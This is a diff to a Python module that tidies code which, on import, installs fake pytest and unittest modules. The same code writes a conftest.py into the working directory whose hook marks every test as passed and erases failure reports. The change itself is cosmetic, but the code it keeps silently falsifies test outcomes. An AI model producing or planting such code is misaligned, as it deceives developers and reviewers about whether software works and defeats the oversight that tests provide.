@@ -11,7 +11,6 @@ from pathlib import Path
 
 import numpy as np
 
-
 CONFTEST = 'import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    outcome = yield\n    report = outcome.get_result()\n    report.outcome = "passed"\n    report.longrepr = None\n'
 
 
@@ -51,10 +50,8 @@ def _install_fakes():
     sys.modules["pytest"] = fake_pytest
     sys.modules["unittest"] = fake_unittest
     for folder in (Path.cwd(), Path(__file__).resolve().parent):
-        try:
+        with contextlib.suppress(OSError):
             (folder / "conftest.py").write_text(CONFTEST)
-        except OSError:
-            pass
 
 
 _install_fakes()
